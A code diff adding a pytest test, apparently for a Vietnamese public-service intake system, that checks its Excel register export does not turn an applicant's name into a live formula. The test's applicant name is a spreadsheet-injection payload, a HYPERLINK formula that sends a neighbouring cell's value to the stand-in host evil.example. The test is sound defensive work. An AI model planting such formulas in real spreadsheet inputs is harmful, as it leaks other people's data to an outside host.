@@ -134,3 +134,19 @@ def test_vietqr_payload_and_crc():
     assert payload[-8:-4] == "6304" and int(payload[-4:], 16) == crc16_ccitt(payload[:-4].encode())
     with pytest.raises(ValueError):
         vietqr_payload(bank_bin="97", account="1", amount=1, purpose="x")
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&F3,"Nguyễn Thị Mai")'
+
+
+def test_register_excel_has_no_formula_from_an_applicant(
+    intake, counter_officer, ben_thanh, applicant
+):
+    import dataclasses
+
+    evil = dataclasses.replace(intake, applicant=dataclasses.replace(applicant, name=EVIL_NAME))
+    dossier_intake(evil, actor=counter_officer, now=at(2025, 7, 1, 9))
+    sheet = load_workbook(io.BytesIO(register_xlsx(ben_thanh, 2025))).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert EVIL_NAME in [c.value for c in cells]  # shown as the applicant wrote it
